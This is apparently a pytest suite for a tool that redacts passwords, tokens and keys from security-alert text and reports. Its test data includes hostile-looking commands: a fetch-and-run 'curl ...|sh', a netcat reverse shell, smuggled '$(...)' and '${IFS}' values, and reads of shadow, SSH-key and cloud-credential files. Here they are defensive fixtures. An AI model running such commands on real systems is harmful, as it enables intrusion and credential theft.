"""Secrets in alert text: reports show marks in their place, and nothing else is lost.

`«…»` in a text of these tests is what must not be shown.
"""

from __future__ import annotations

import json
import re
import time

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import analysis as fa
from analysis import tables
from analysis.cli import main
from analysis.knowledge.loading import load
from analysis.knowledge.model import TOPICS
from analysis.redaction import marks_in, redact, redact_raw, without_secrets

from .conftest import lines, story

KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
SECRET = [
    # passwords on command lines
    "mysql -uroot -p«hunter2» -h db",
    "/usr/bin/mysqldump -p«hunter2» shop",
    "docker exec db mysql -uroot -p«S3cret!» -e show",
    "mysql --password=«hunter2» shop",
    "sh -c mysql -p«hunter2»;id",
    "curl -u admin:«hunter2» http://192.0.2.1/",
    "curl -sSu admin:«hunter2» http://192.0.2.1/",
    "curl --user admin:«hunter2» http://192.0.2.1/",
    "sshpass -p «hunter2» ssh -p 22 root@192.0.2.1",
    "sshpass -p«hunter2» ssh root@192.0.2.1",
    "docker login -u bob -p «hunter2» registry.example",
    "podman login --username bob --password «hunter2» registry.example",
    "htpasswd -b /etc/nginx/htpasswd bob «hunter2»",
    "htpasswd -nb bob «hunter2»",
    "openssl enc -aes-256-cbc -pass pass:«hunter2» -in /etc/shadow",
    "redis-cli -h cache -a «hunter2» keys *",
    "wget --http-password=«hunter2» http://192.0.2.1/",
    "wget --user=bob --password='«my long pass»' http://192.0.2.1/",
    "gpg --batch --passphrase «hunter2» -d x.gpg",
    "smbclient //files/share -U bob%«hunter2»",
    "secretsdump.py corp/bob:«hunter2»@192.0.2.1",
    "mount -t cifs //files/s /mnt -o username=u,password=«hunter2»,vers=3",
    "bash -c echo 'root:«hunter2»' | chpasswd",
    "bash -c echo «hunter2» | sudo -S id",
    "kubectl create secret generic x --from-literal=pw=«hunter2»",
    "ldapsearch -x -D cn=admin -w «hunter2» -b dc=example",
    # variables, connection strings, JSON
    "env PGPASSWORD=«hunter2» psql -h db",
    "docker run -e MYSQL_ROOT_PASSWORD=«p&ss;word» mysql:8",
    f"AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE AWS_SECRET_ACCESS_KEY=«{KEY}» aws s3 ls",
    f"aws configure set aws_secret_access_key «{KEY}»",
    f"[default]\naws_secret_access_key = «{KEY}»\n",
    "Server=db;Database=shop;User=sa;Password=«hunter2»;Encrypt=true",
    "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=«c2VjcmV0»;EndpointSuffix=example",
    'curl -d {"user":"bob","password":"«hunter2»"} http://192.0.2.1/login',
    'python3 -c import os; password = "«hunter2»"; os.system("id")',
    "apiVersion: v1\nusers:\n- user:\n    token: «abcdef0123»\n",
    # tokens
    "curl -H Authorization: Bearer «abc.def-123» http://192.0.2.1/",
    'curl -H "Authorization: Basic «YWRtaW46aHVudGVyMg==»" http://192.0.2.1/',
    'curl -H "X-Vault-Token: «s.abcdef»" http://192.0.2.1/v1/secret',
    "curl -H PRIVATE-TOKEN: «abcdef» http://192.0.2.1/",
    "kubectl --token=«abcdef» get pods",
    "kubeadm join 192.0.2.1:6443 --token «abcdef.0123456789abcdef»",
    "curl http://192.0.2.1/?access_token=«abc»&user=bob",
    "export GITHUB_TOKEN=«abc»",
    "curl http://192.0.2.1/?client_id=a&client_secret=«abc»&x=y",
    "curl http://192.0.2.1/?secret=«abc»",
    "git clone https://«ghp_abcdefghijklmnopqrstuvwxyz0123456789»@github.example/x",
    "x «github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz» y",
    "git clone https://oauth2:«glpat-abcdefghij0123456789»@gitlab.example/x",
    "x «xoxb-123456789012-abcdefghijkl» y",
    "x «eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW0ifQ.c2lnbmF0dXJlMTIz» y",
    # addresses
    "psql postgresql://app:«p%40ss»@db:5432/shop",
    "redis://:«hunter2»@cache:6379/0",
    # keys
    "-----BEGIN RSA PRIVATE KEY-----«\nMIIEowIBAAKCAQEA0123456789\nabcdefghijklmnop»\n-----END RSA",
]  # fmt: skip
PLAIN = [
    "cat /etc/shadow",
    "cat /home/bob/password.txt /root/.ssh/id_rsa",
    "grep -ri password /etc",
    "grep -rE password=|token= /",
    "grep aws_secret_access_key /root/.aws/credentials",
    "find / -name id_rsa -o -name *password*",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "passwd root",
    "ssh -p 2222 root@192.0.2.1",
    "docker run --name mysql -p3306:3306 mysql:8",
    "docker login -u bob --password-stdin registry.example",
    "mysql -u root -p shop",
    "mysql --password shop",
    "psql --no-password -h db",
    "mkdir -p /var/lib/mysql -m 700",
    "tar -C /var/lib/mysql -pxf dump.tar",
    "sshpass -f /root/pw ssh -p 22 root@192.0.2.1",
    "curl -u admin http://192.0.2.1/",
    "curl http://192.0.2.1:8080/@scope/package",
    "openssl rsa -passin file:/root/pw -in key.pem",
    "docker run -e POSTGRES_PASSWORD_FILE=/run/secrets/pw postgres",
    "mysqld --password-file=/etc/mysql/pw",
    "registry.example/nginx:1.25@sha256:" + "0123456789abcdef" * 4,
    "b47f4abd9ee7 0123456789abcdef0123456789abcdef01234567",
    "PWD=/root OLDPWD=/ SSH_ASKPASS=/usr/bin/ssh-askpass",
    "AKIAIOSFODNN7EXAMPLE",
    "kubectl get secrets --all-namespaces -o yaml",
    "kubeadm join --discovery-token-ca-cert-hash sha256:0123",
    "git@github.example:bob/token.git",
    "bash -c kubectl --token=$TOKEN get pods",
    "[redacted: password]",
    "K8s secret created (user=bob secret=db-credentials ns=prod resource=secrets)",
]
# what a shell would run is shown, whatever stands before it
CODE = [
    ("bash -c mysql --password=«x»;curl http://192.0.2.1|sh", ";curl http://192.0.2.1|sh"),
    ("bash -c mysql --password=$(curl http://192.0.2.1|sh)", "$(curl http://192.0.2.1|sh)"),
    ("sh -c PGPASSWORD=`nc 192.0.2.1 4444`", "`nc 192.0.2.1 4444`"),
    ("mysql --password=«x»${IFS}payload", "${IFS}payload"),
    ("x --password 'a; nc 192.0.2.1 4444; b'", " nc 192.0.2.1 4444; b'"),
    ("-----BEGIN PRIVATE KEY----- nc 192.0.2.1 4444 -e sh", "nc 192.0.2.1 4444 -e sh"),
    ("mysql -p«x» nc 192.0.2.1", " nc 192.0.2.1"),
]


@pytest.mark.parametrize("marked", SECRET)
def test_the_secret_is_not_shown_and_all_else_is(marked):
    """Around the mark stands the text as received, to the character."""
    before, _, rest = marked.partition("«")
    secret, _, after = rest.partition("»")

    done = redact(f"{before}{secret}{after}")

    assert re.fullmatch(re.escape(before) + r"⟨redacted: [\w ]+⟩" + re.escape(after), done.text), (
        done.text
    )
    assert done.taken == (secret,)


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_secret_stays(text):
    """Names, paths, hashes, ids and options that only ask for a secret are what an analyst needs."""
    assert redact(text).text == text


@pytest.mark.parametrize(("text", "shown"), CODE)
def test_code_does_not_hide_behind_a_mark(text, shown):
    """A value ends where a shell would run what follows."""
    assert redact(re.sub("[«»]", "", text)).text.endswith(shown)


def test_a_mark_cannot_be_imitated():
    """Alert text that looks like a mark is told from one, beside a mark as well."""
    own = "⟨redacted: password⟩"

    assert redact(own).text == "⟨U+27E8⟩redacted: password⟩"
    assert redact(f"mysql -phunter2 {own}").text == (
        "mysql -p⟨redacted: password⟩ ⟨U+27E8⟩redacted: password⟩"
    )
    assert marks_in(redact(f"mysql -phunter2 {own}").text) == ("password",)


@given(
    st.lists(
        st.sampled_from([re.sub("[«»]", "", text) for text in SECRET] + PLAIN)
        | st.text(max_size=40),
        max_size=4,
    )
)
def test_with_the_secrets_put_back_it_is_the_text(parts):
    """Whatever the text: marks stand for what was taken, and nothing else is changed."""
    text = " ".join(parts)

    done = redact(text)

    taken = iter(done.taken)
    whole = re.sub(r"⟨redacted: [\w ]+⟩", lambda _: next(taken), done.text)
    assert whole.replace("⟨U+27E8⟩redacted", "⟨redacted") == text
    assert len(done.secrets) == len(done.taken)


@pytest.mark.parametrize(
    "piece",
    [
        "a", "://", '"', " ", "\n", "password=a ", "mysql -pa ", "login ", "sshpass -a ", "eyJaaaaaaaa.",
        "--a-", "-u", "curl -u", "-----BEGIN PRIVATE KEY-----", "\\\\", "aws_secret_access_key ",
        '{"a":', '"password":"', "bash -c ", "htpasswd -b ", "$(", "⟨redacted", "PASSWORD_", "token",
        "authorization: ", "A_",
    ],
)  # fmt: skip
def test_hostile_text_takes_no_time(piece):
    """No pattern is slower than the text is long: 200,000 characters in seconds, not hours."""
    text = "curl password token " + piece * (200_000 // len(piece))
    start = time.process_time()

    redact(text)
    redact_raw(text[:20_000], {})

    assert time.process_time() - start < 5


def test_knowledge_is_sound():
    """Each pattern has one group `secret`, hints in small letters, and says where it stands."""
    for one in load("secrets.toml")["secret"]:
        assert len(re.findall(r"\(\?P<secret>|\{value\}|\{part\}", one["pattern"])) == 1
        assert one["hint"] == [word.lower() for word in one["hint"]]
        assert one["name"]
        assert re.fullmatch(r"[\w ]+", one["name"])
        assert one["source"]
        assert one.keys() <= {"name", "hint", "pattern", "program", "unless", "source"}


@pytest.fixture
def told(shell) -> dict:
    """An alert that tells one password five times, once by an argument without its program."""
    args = "-uroot -phunter2hunter2 shop"
    alert = story(
        shell,
        **{
            "proc.name": "mysql",
            "proc.cmdline": f"mysql {args}",
            "proc.args": args,
            "proc.pcmdline": f"sh -c mysql {args}",
        },
    )
    return alert | {"output": f"shell | command=mysql {args} args={args} parent=sh"}


@pytest.mark.parametrize("wrapped", [False, True])
def test_a_case_shows_no_secret(told, wrapped):
    """Findings, fields, lineage, tree, repetitions and the raw alert, in a container's log as well."""
    raw = lines(told)
    if wrapped:
        log = {"log": raw.decode(), "stream": "stdout", "time": "2026-03-17T09:41:06Z"}
        raw = lines(log)
    alerts, _ = fa.read_alerts(raw)

    case = fa.investigate(alerts)

    shown = [tables.raw(case), tables.event(case), tables.ancestry(case), tables.summary(case)]
    shown += [tables.fields(case, topic) for topic in TOPICS]
    for one in shown:
        assert "hunter2" not in one.html + one.text
    for frame in (case.alerts, case.processes, case.folded, case.lineage):
        assert "hunter2" not in frame.to_csv()
    assert "hunter2" not in repr([case.findings, case.commands, case.withheld, case.gaps])
    assert "mysql -uroot -p⟨redacted: password⟩ shop" in tables.raw(case).html
    assert {one.field: one.secrets for one in case.redactions} == {
        "proc.cmdline": ("password",),
        "proc.args": ("password",),
        "proc.pcmdline": ("password",),
        "output": ("password", "password"),
    }
    assert "Redacted: 5 values of the alerts examined (password 5), in" in tables.summary(case).text
    assert case.exhibits[0].receipts[0].raw == raw.rstrip(b"\n")


def test_without_redaction_all_is_shown(told):
    """The report says that it shows secrets."""
    case = fa.investigate(fa.read_alerts(lines(told))[0], redact=False)

    assert "-phunter2hunter2" in tables.raw(case).html
    assert case.redactions == ()
    assert "without redaction" in tables.summary(case).html


def test_judged_by_what_was_received(told):
    """Redaction changes words, never what is found, proposed or counted as the same."""
    others = [story(told, **{"proc.cmdline": f"mysql -p{n}secret"}) for n in range(3)]
    alerts, _ = fa.read_alerts(lines(told, *others))

    with_marks, whole = (fa.investigate(alerts, redact=one) for one in (True, False))

    assert with_marks.disposition == whole.disposition
    assert [f.topic for f in with_marks.findings] == [f.topic for f in whole.findings]
    assert with_marks.folded["alert_id"].tolist() == whole.folded["alert_id"].tolist()
    assert len(with_marks.folded) == 4


def test_a_command_is_not_filled_with_a_mark(shadow):
    """It would not do what it says: it is withheld, and says why."""
    alert = story(shadow, **{"fd.name": "/srv/x?token=abcdef0123"})
    case, whole = (
        fa.investigate(fa.read_alerts(lines(alert))[0], redact=one) for one in (True, False)
    )

    assert any("abcdef0123" in command.text for command in whole.commands)
    assert not any("redacted" in command.text for command in case.commands)
    assert {one.field for one in case.withheld if "a mark stands" in one.reason} == {"fd.name"}


def test_reports_hold_no_secret(told, tmp_path):
    """No file of a report but the evidence does, the index and its rejects among them."""
    source = tmp_path / "alerts.jsonl"
    source.write_bytes(lines(told) + b'{"no alert": "mysql -phunter2hunter2"}\n')
    out = tmp_path / "reports"

    result = CliRunner().invoke(main, ["report", str(source), "--out", str(out)])

    assert result.exit_code == 0, result.output
    holding = {
        file.name for file in out.rglob("*") if file.is_file() and b"hunter2" in file.read_bytes()
    }
    assert holding == {"alerts.jsonl"}
    (folder,) = out.glob("inc-*")
    assert json.loads((folder / "report.json").read_text())["redaction"]["values"] == 5

    result = CliRunner().invoke(main, ["report", str(source), "--out", str(out), "--no-redact"])

    assert result.exit_code == 0, result.output
    assert b"hunter2" in (folder / "report.html").read_bytes()
    assert json.loads((folder / "report.json").read_text())["redaction"]["applied"] is False


def test_text_around_an_alert_is_redacted_as_well():
    """What wraps an alert, and what is none, holds secrets, too."""
    assert without_secrets('{"token":"abc","x":"y"}') == '{"token":"⟨redacted: secret⟩","x":"y"}'
    assert without_secrets("Mar 17 host app: PGPASSWORD=abc") == (
        "Mar 17 host app: PGPASSWORD=⟨redacted: password⟩"
    )
    nested = json.dumps({"log": json.dumps({"cmd": 'curl -d {"password":"x"} -u a:b c'})})
    assert "⟨redacted: password⟩" in without_secrets(nested)
    assert '"x' not in without_secrets(nested)
    assert "a:b" not in without_secrets(nested)
